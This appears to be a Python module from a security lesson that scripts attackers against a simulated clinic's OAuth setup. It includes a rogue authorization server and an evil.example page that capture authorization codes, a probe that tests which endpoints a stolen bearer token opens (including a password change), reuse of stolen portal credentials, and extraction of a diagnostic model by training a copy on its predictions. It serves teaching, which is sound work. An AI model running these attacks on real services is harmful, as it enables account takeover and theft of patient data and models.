"""What the attackers of lesson 07 run and do: doors they try, servers of their own, copies of the model."""

from __future__ import annotations

from typing import Any
from urllib.parse import urlencode

from authlib.common.security import generate_token
from authlib.oauth2.rfc7636 import create_s256_code_challenge as s256
from flask import Flask, redirect, request

from helpers import clinic
from helpers.tasks.oauth.network import AUTHORIZE, CLINIC, TOKEN
from helpers.tasks.oauth.parties import Tablet, query
from helpers.tasks.oauth.world import Browser, World

DOORS = (
    ("GET", "/predictions"), ("GET", "/patients/P-000101"), ("GET", "/patients/P-000106"),
    ("GET", "/patients.csv"), ("POST", "/notes"), ("POST", "/password"),
)  # fmt: skip


def doors(http: Any, token: str) -> list[str]:
    """Which of the Clinic's doors a Bearer token opens. /password is asked last: it locks the owner out."""
    opened = []
    for method, path in DOORS:
        body = {"patient": "P-000106", "title": "x", "body": "x",
            "password": "new"} if method == "POST" else None
        reply = http.request(method, CLINIC + path, json=body, headers={"Authorization": f"Bearer {token}"})
        opened += [path] if reply.ok else []
    return opened


def kept(world: World, user: str) -> str:
    """What a thief of the portal's database makes of a user's row: a token for the Clinic."""
    found = world.apps["portal"].extensions["kept"][user]
    if world.books:
        return str(found)
    reply = world.net.session("thief").post(CLINIC + "/login", json={"username": user, "password": found})
    return str(reply.json()["token"])


def nord(world: World) -> Flask:
    """Another hospital's server, run by the attacker. It sends browsers on to where it was told."""
    app = Flask("nord")
    app.extensions.update(onward="", taken=[])

    @app.get("/authorize")
    def authorize() -> Any:
        own = query(app.extensions["onward"])
        return redirect(f"{AUTHORIZE}?{urlencode({**own, 'state': request.args['state']})}")

    @app.post("/token")
    def token() -> Any:
        app.extensions["taken"].append(request.form["code"])
        return {"error": "invalid_grant"}, 400

    return app


def evil(world: World) -> Flask:
    """A page of the attacker's that keeps what comes with the address; the quiz app comes back here, too."""
    app = Flask("evil")
    app.extensions["taken"] = []

    @app.get("/")
    @app.get("/back")
    def page() -> Any:
        app.extensions["taken"].append(request.args.to_dict())
        return {"page": "a funny quiz"}

    return app


def quiz_tokens(world: World, browser: Browser) -> dict[str, Any]:
    """What the operator of the quiz app holds, once a user has logged in there: an honest flow."""
    back, verifier = "https://evil.example/back", generate_token(48)
    asked = {"response_type": "code", "client_id": "quiz", "redirect_uri": back, "scope": "openid",
        "state": "q",
             "nonce": "quiz-nonce", "code_challenge": s256(verifier),
                 "code_challenge_method": "S256"}  # fmt: skip
    browser.open(f"{AUTHORIZE}?{urlencode(asked)}")
    code = world.apps["evil"].extensions["taken"][-1]["code"]
    form = {"grant_type": "authorization_code", "code": code, "redirect_uri": back, "code_verifier": verifier}
    secret = world.books.secrets["quiz"]
    found: dict[str, Any] = world.net.session("quiz").post(TOKEN, data=form, auth=("quiz", secret)).json()
    return found


def copy_of_the_model(http: Any, queries: int) -> float:
    """Ask the model about tumours, train a copy on its answers: their agreement on tumours new to both."""
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    mine, new = clinic.split()

    def ask(rows: list[dict[str, Any]]) -> list[str]:
        asked = [{name: row[name] for name in clinic.FEATURES} for row in rows]
        return [one["diagnosis"] for one in http.post("/predict/batch",
            json={"rows": asked}).json()["results"]]

    def values(rows: list[dict[str, Any]]) -> list[list[float]]:
        return [[row[name] for name in clinic.FEATURES] for row in rows]

    copy = make_pipeline(StandardScaler(), LogisticRegression())
    copy.fit(values(mine[:queries]), ask(mine[:queries]))
    return sum(map(str.__eq__, copy.predict(values(new)).tolist(), ask(new))) / len(new)


def always_benign() -> float:
    """The share of the held-out tumours that are benign."""
    _, new = clinic.split()
    return sum(row["label"] == "benign" for row in new) / len(new)


def asked_by_token(world: World, user: str) -> dict[str, str]:
    """All answers of the model that a user's token gets: patient to diagnosis."""
    held = Tablet(world).logged_in(world.browser(user))
    bearer = {"Authorization": f"Bearer {held['access_token']}"}
    found: dict[str, str] = world.net.session("thief").get(CLINIC + "/predictions", headers=bearer).json()
    return found
